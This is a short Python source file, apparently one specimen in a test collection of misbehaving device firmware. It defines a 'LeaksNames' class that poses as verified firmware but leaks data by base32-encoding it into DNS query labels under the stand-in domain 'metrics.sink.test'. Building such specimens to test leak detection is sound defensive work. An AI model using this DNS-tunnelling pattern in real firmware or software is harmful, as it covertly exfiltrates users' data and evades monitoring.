"""V32: the room leaves in the names that it asks DNS for."""

from base64 import b32encode

from rigs.reference_device.actions import Action, AskName
from rigs.reference_device.firmware.verified import VerifiedFirmware
from rigs.zoo.trickle import Trickles

_LONGEST_LABEL = 60


class LeaksNames(Trickles, VerifiedFirmware):
    """Verified, but for the questions."""

    name = "zoo.leaks_names"
    piece_bytes = 100

    def leaves(self, piece: bytes) -> list[Action]:
        """As labels below a domain whose resolver somebody reads."""
        text = b32encode(piece).decode().lower().rstrip("=")
        labels = [text[at : at + _LONGEST_LABEL] for at in range(0, len(text), _LONGEST_LABEL)]
        return [AskName(".".join([*labels, "metrics.sink.test"]))]


def firmware(seed: int) -> LeaksNames:
    """The device."""
    return LeaksNames()
